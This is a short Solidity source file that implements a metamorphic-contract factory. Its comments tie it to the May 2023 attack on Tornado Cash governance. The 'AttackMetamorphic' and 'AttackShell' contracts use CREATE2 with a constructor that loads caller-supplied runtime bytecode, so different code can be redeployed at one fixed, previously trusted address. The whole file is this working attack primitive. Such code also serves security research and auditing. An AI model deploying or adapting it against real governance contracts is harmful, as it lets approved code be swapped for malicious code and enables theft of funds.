// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Create2} from "@openzeppelin/contracts/utils/Create2.sol";

/// @title One address for any code, as in the attack on Tornado Cash's governance (May 2023)
/// @notice CREATE2 gives the same address for the same creation code, and this creation code asks what it is to become.
contract AttackMetamorphic {
    bytes public payload;

    function become(bytes calldata runtime) external returns (address) {
        payload = runtime;
        return Create2.deploy(0, 0, type(AttackShell).creationCode);
    }
}

contract AttackShell {
    constructor() {
        bytes memory runtime = AttackMetamorphic(msg.sender).payload();
        // solhint-disable-next-line no-inline-assembly
        assembly {
            return(add(runtime, 32), mload(runtime))
        }
    }
}
